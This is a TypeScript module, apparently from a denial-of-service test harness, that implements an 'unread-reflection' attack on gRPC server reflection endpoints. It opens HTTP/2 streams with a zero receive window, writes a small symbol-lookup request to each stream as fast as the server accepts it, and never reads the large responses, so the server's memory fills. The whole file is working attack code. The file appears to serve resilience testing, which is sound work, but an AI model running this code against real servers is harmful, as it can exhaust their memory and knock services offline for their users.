/** gRPC reflection streams that repeat a small request and read no response. */
import type { ClientHttp2Stream } from 'node:http2';
import { type Attack, forEachConnection } from './attack.ts';
import { MIB } from './resources.ts';
import { grpcFrame, grpcHeaders, openSession } from './sockets.ts';

const PATH = '/grpc.reflection.v1.ServerReflection/ServerReflectionInfo';
/** file_containing_symbol: 26 bytes, whose answer has several kilobytes. */
const REQUEST = grpcFrame(Buffer.concat([Buffer.of(0x22, 22), Buffer.from('petstore.v1.PetService')]));
const REPEATED = Buffer.concat(Array<Buffer>(100).fill(REQUEST));

export const unreadReflection: Attack = {
  name: 'unread-reflection',
  title: 'a reflection stream with a window of 0 that repeats a request and reads nothing',
  full: { connections: 1, perConnection: 50 },
  short: { connections: 1, perConnection: 1 },
  holdMs: 60_000,
  bounds: { maxServerGrowthBytes: 100 * MIB },
  async run({ target, size, tally, signal }) {
    await forEachConnection(size, async (index) => {
      const session = await openSession(target, index, { initialWindowSize: 0 });
      signal.addEventListener('abort', () => session.destroy());
      for (let count = 0; count < size.perConnection; count += 1) {
        const stream = session.request(grpcHeaders(PATH), { endStream: false });
        const end = tally.start();
        stream.on('error', () => undefined);
        stream.on('close', () => signal.aborted || end('ended'));
        repeat(stream);
      }
    });
  },
};

/** Sends as fast as the other side takes it. */
function repeat(stream: ClientHttp2Stream): void {
  if (stream.writable) stream.write(REPEATED, () => repeat(stream));
}
